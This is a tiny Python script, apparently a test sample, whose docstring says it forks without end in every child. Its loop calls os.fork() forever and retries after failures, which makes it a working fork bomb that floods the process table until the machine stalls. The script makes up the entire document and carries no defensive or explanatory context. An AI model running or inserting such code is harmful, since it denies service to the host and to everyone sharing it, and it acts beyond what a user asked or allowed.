"""Forks without end, in every child as well. Outcome: processes."""
import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(0.01)
